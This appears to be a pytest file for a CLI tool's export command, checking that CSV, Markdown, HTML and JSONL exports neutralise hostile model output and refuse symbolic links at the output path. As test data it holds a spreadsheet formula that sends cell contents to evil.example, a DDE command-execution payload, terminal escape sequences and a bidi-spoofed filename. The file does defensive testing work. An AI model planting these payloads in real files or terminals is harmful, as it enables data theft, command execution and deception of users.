"""Exports and terminals under hostile model text, ``--out`` and symbolic links, names with
control characters (SPEC §11, docs/reports.md "Untrusted text in exports").

A real RCP run through ``rwb run`` against the loopback server, whose agents write spreadsheet
formulas, ESC sequences and bidi controls as artifacts and vote reasons; then ``rwb export``
as a subprocess, its stdout taken as bytes:

- the CSV, parsed with the csv module: every formula-like cell starts with ``'``, numbers stay;
- stdout of every format carries no ESC, no other C0 but newline and tab, no C1, no bidi control;
- ``--out`` keeps the exact text (JSONL parses back to the very replies; CSV differs only by ``'``);
- a symbolic link at ``--out`` is refused (exit 2, one line), ``--force`` or not, the target untouched;
- a name holding any control class is refused with exit 2 naming the field, before the project
  file exists and before any request reaches the server.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.fake_llm_server import FakeLLMServer, Reply
from workbench.cli import main

REPO = Path(__file__).resolve().parents[2]
KEY_ENV = "UNTRUSTED_EXPORTS_TEST_KEY"

# Each agent's artifact, and the vote reasons the voters give (in turn).
ARTIFACTS = {
    "a1": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "a2": "+cmd|' /C calc'!A0 then \x1b]0;owned\x07 title",
    "c1": "-1+2 \x1b[31mred\x1b[0m \x1b[2J cleared",
    "c2": "@SUM(A1) \u202egnp.exe\u202c \u2066iso\u2069 \ufeffbom \x9b2J \x85nel",
}
REASONS = ["\t=1+1", "\r=2", "-5", "+3.2", "plain reason", "=cmd \x1b[5m"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# What a terminal acts on: C0 but newline and tab, DEL, C1, bidi controls, separators, BOM.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


def _answer(request) -> str:
    user = request.messages[-1]["content"]
    persona = request.messages[0]["content"]
    if "Answer in one or two short paragraphs" in user:
        return ARTIFACTS[persona.removeprefix("Agent ").rstrip(".")]
    return json.dumps({"vote": "YES", "reason": REASONS[request.index % len(REASONS)]})


def config(base_url: str, **extra) -> dict:
    agents = lambda p: [{"id": f"{p}{i}", "provider": "local", "persona": f"Agent {p}{i}."} for i in (1, 2)]
    return {"protocol": "rcp", "query": "Close the centre to cars?", "seed": 3,
            "providers": {"local": {"model": "openai/fake-model", "api_base": base_url, "api_key_env": KEY_ENV,
                                    "timeout_s": 30, "max_retries": 0}},
            "clusters": [{"name": "advocate", "agents": agents("a")}, {"name": "critic", "agents": agents("c")}],
            **extra}


def rwb(*args: object) -> subprocess.CompletedProcess:
    env = {**os.environ, KEY_ENV: "sk-untrusted-exports-0123456789"}
    return subprocess.run([sys.executable, "-m", "workbench", *map(str, args)], cwd=REPO, capture_output=True,
                          timeout=180, env=env)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """(project, run id) of a completed run whose model text is hostile."""
    folder = tmp_path_factory.mktemp("untrusted")
    with FakeLLMServer(default=Reply(text=_answer)) as server:
        path = folder / "run.json"
        path.write_text(json.dumps(config(server.base_url)), encoding="utf-8")
        done = rwb("run", path, "--project", folder / "p.rwb", "--quiet")
    assert done.returncode == 0, done.stderr.decode()
    return folder / "p.rwb", done.stdout.decode().splitlines()[0]


def export(hostile_run, fmt: str, *extra: object) -> subprocess.CompletedProcess:
    project, run_id = hostile_run
    return rwb("export", run_id, "--project", project, "--format", fmt, *extra)


def _records(jsonl: str) -> list[dict]:
    return [json.loads(line) for line in jsonl.splitlines()]


def test_csv_cells_never_start_a_live_formula_and_numbers_stay_numbers(hostile_run):
    done = export(hostile_run, "csv")
    assert done.returncode == 0, done.stderr.decode()
    rows = list(csv.DictReader(io.StringIO(done.stdout.decode("utf-8"), newline="")))
    cells = [cell for row in rows for cell in row.values() if cell]
    live = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
    assert not live, live[:5]
    artifacts = [r for r in rows if r["kind"] == "artifact"]
    assert len(artifacts) == 4
    reasons = {r["reason"] for r in rows if r["kind"] == "vote"}
    # the numbers a model wrote are still numbers; the formulas are text
    assert {"-5", "+3.2", "plain reason"} <= reasons
    # a reason is stored stripped ("\t=1+1" is "=1+1"); on stdout controls are shown as escapes
    assert {"'=1+1", "'=2", "'=cmd \\x1b[5m"} <= reasons
    assert all(r["seed"] == "3" for r in rows if r["kind"] == "run")
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")" in {r["text"] for r in artifacts}


@pytest.mark.parametrize("fmt", ["csv", "md", "html", "jsonl"])
def test_stdout_carries_no_terminal_control_in_any_format(hostile_run, fmt):
    done = export(hostile_run, fmt)
    assert done.returncode == 0, done.stderr.decode()
    text = done.stdout.decode("utf-8")
    assert not UNSAFE.findall(text), sorted({hex(ord(c)) for c in UNSAFE.findall(text)})
    if fmt != "jsonl":  # shown, not dropped: a reader sees that something was there
        assert "\\x1b" in text and "\\u202egnp.exe" in text
    else:  # JSON escapes: the same text for any JSON reader
        texts = {r["author"]: r["text"] for r in _records(text) if r["kind"] == "artifact"}
        assert texts == ARTIFACTS


def test_out_keeps_the_exact_text(hostile_run, tmp_path):
    for fmt in ("jsonl", "csv", "md"):
        done = export(hostile_run, fmt, "--out", tmp_path / f"run.{fmt}")
        assert done.returncode == 0 and done.stdout == b"", done.stderr.decode()
    records = _records((tmp_path / "run.jsonl").read_text(encoding="utf-8"))
    assert {r["author"]: r["text"] for r in records if r["kind"] == "artifact"} == ARTIFACTS
    assert {r["reason"] for r in records if r["kind"] == "vote"} <= {r.strip() for r in REASONS}  # stored stripped
    with open(tmp_path / "run.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    texts = {r["author"]: r["text"] for r in rows if r["kind"] == "artifact"}
    assert texts == {a: ("'" + t if t.startswith(FORMULA_STARTS) else t) for a, t in ARTIFACTS.items()}
    report = (tmp_path / "run.md").read_text(encoding="utf-8")
    assert "\x1b" in report and "\u202egnp.exe" in report  # exact, not escaped


def test_a_run_summary_and_its_failure_line_carry_no_terminal_control(tmp_path):
    hostile = Reply(status=400, error_message="bad \x1b]0;owned\x07 \x1b[2J request \u202eevil")
    with FakeLLMServer(default=hostile) as server:
        path = tmp_path / "run.json"
        path.write_text(json.dumps(config(server.base_url)), encoding="utf-8")
        done = rwb("run", path, "--project", tmp_path / "p.rwb", "--quiet")
    assert done.returncode == 4
    out, err = done.stdout.decode(), done.stderr.decode()
    assert not UNSAFE.findall(out) and not UNSAFE.findall(err)
    assert "\u202eevil" in json.loads(out.splitlines()[-1])["error"]  # the JSON still says exactly what came back
    assert len(err.splitlines()) == 1 and "\\x1b[2J" in err
    table = rwb("runs", "--project", tmp_path / "p.rwb").stdout.decode()
    assert "failed" in table and not UNSAFE.findall(table)


# ── --out and symbolic links ────────────────────────────────────────────────────────────────
@pytest.mark.parametrize("force", [False, True], ids=["without --force", "with --force"])
def test_export_refuses_a_symbolic_link_at_out(hostile_run, tmp_path, force):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    link = tmp_path / "export.csv"
    link.symlink_to(victim)
    done = export(hostile_run, "csv", "--out", link, *(["--force"] if force else []))
    assert done.returncode == 2
    err = done.stderr.decode().splitlines()
    assert len(err) == 1 and err[0].startswith("rwb export: error: --out: ") and "symbolic link" in err[0]
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert link.is_symlink() and os.readlink(link) == str(victim)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv", "victim.txt"]  # no temporary left


def test_a_dangling_link_is_not_followed_either(hostile_run, tmp_path):
    link = tmp_path / "export.jsonl"
    link.symlink_to(tmp_path / "elsewhere.jsonl")
    done = export(hostile_run, "jsonl", "--out", link, "--force")
    assert done.returncode == 2 and "symbolic link" in done.stderr.decode()
    assert not (tmp_path / "elsewhere.jsonl").exists()


def test_demo_out_refuses_a_symbolic_link(tmp_path):
    victim = tmp_path / "victim.rwb"
    victim.write_bytes(b"not a project")
    link = tmp_path / "demo.rwb"
    link.symlink_to(victim)
    done = rwb("demo", "--out", link, "--force")
    assert done.returncode == 2 and "symbolic link" in done.stderr.decode()
    assert victim.read_bytes() == b"not a project" and link.is_symlink()


def test_out_replaces_a_regular_file_in_one_step_with_force(hostile_run, tmp_path):
    target = tmp_path / "run.jsonl"
    target.write_text("old\n", encoding="utf-8")
    assert export(hostile_run, "jsonl", "--out", target).returncode == 2  # exists, no --force
    assert target.read_text(encoding="utf-8") == "old\n"
    assert export(hostile_run, "jsonl", "--out", target, "--force").returncode == 0
    assert _records(target.read_text(encoding="utf-8"))[0]["kind"] == "run"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run.jsonl"]


# ── names with control characters: refused before anything is written or spent ──────────────
CLASSES = [("NUL", "\x00"), ("ESC", "\x1b"), ("newline", "\n"), ("tab", "\t"), ("DEL", "\x7f"), ("C1", "\x9b"),
           ("bidi override", "\u202e"), ("bidi isolate", "\u2066"), ("BOM", "\ufeff"), ("line separator", "\u2028")]
FIELDS = [
    (("clusters", 0, "agents", 1, "id"), "clusters[0].agents[1].id"),
    (("clusters", 1, "name"), "clusters[1].name"),
    (("label",), "label"),
    (("providers", "local", "model"), "providers.local.model"),
]


@pytest.mark.parametrize("where, field", FIELDS, ids=[f for _, f in FIELDS])
@pytest.mark.parametrize("label, char", CLASSES, ids=[c for c, _ in CLASSES])
def test_a_name_with_a_control_character_is_refused_naming_the_field(tmp_path, capsys, monkeypatch, where, field,
                                                                      label, char):
    monkeypatch.setenv(KEY_ENV, "sk-untrusted-exports-0123456789")
    with FakeLLMServer(default=Reply(text=_answer)) as server:
        data = config(server.base_url)
        target = data
        for key in where[:-1]:
            target = target[key]
        target[where[-1]] = f"x{char}y"
        path = tmp_path / "run.json"
        path.write_text(json.dumps(data), encoding="utf-8")
        code = main(["run", str(path), "--project", str(tmp_path / "p.rwb"), "--quiet"])
        requests = len(server.requests)
    err = capsys.readouterr().err
    assert code == 2
    assert err == (f"rwb run: error: {field}: must not contain control characters "
                   f"(U+{ord(char):04X} at character 2)\n")
    assert requests == 0 and not (tmp_path / "p.rwb").exists()


def test_a_provider_key_made_of_invisible_characters_is_refused(tmp_path, capsys):
    data = config("http://127.0.0.1:9/v1")
    data["providers"] = {"\u200b": data["providers"]["local"]}
    for cluster in data["clusters"]:
        for agent in cluster["agents"]:
            agent["provider"] = "\u200b"
    path = tmp_path / "run.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    assert main(["run", str(path), "--project", str(tmp_path / "p.rwb")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("rwb run: error: providers.") and err.count("\n") == 1
    assert err.endswith("must contain a visible character (it has only spaces or invisible characters)\n")
    assert not (tmp_path / "p.rwb").exists()
